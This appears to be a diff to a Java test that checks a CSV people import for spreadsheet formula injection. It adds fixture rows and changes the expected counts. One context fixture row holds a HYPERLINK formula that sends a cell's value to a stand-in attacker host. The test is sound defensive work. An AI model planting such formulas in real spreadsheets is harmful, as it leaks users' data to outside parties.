@@ -35,6 +35,9 @@ class HostileTablesDrill {
             hostile-f5,"=HYPERLINK(""https://evil.example?x=""&A1)",Plain
             ,=1+2,Plain
             =2+3,Plain Example,Plain
+            hostile-n1,- vacant -,@home
+            hostile-n2,@Ada Example,-1 and more
+            hostile-n3,Plain Example,=1+1
             """;
 
     private final Suite suite;
@@ -43,12 +46,15 @@ class HostileTablesDrill {
         this.suite = suite;
     }
 
-    /** Names that look like formulas may be names; whatever goes out, no spreadsheet takes them for more. */
+    /** Names that are formulas are left out, those that only look like one may be names; no spreadsheet takes what goes out for more. */
     @Test
-    void whatLooksLikeAFormulaGoesOutAsText() throws IOException {
+    void formulasAreLeftOutAndNothingGoesOutAsOne() throws IOException {
         var job = imported("people.csv", TABLE.getBytes(UTF_8));
 
-        assertEquals(5, suite.as("hr", PROFILE).get(job).<Integer>path("outcome.added"));
+        var ended = suite.as("hr", PROFILE).get(job);
+        assertEquals(3, ended.<Integer>path("outcome.added"));
+        assertEquals(7, ended.<Integer>path("outcome.leftOut"));
+        assertEquals(1, ended.<Integer>path("outcome.faults.unknown-team"));
         for (var table : List.of("/api/v1/people.csv", job + "/rejected.csv", job + "/faults.csv")) {
             var text = suite.as("hr", PROFILE).get(table).asString();
             assertTrue(text.lines().count() > 1, table);
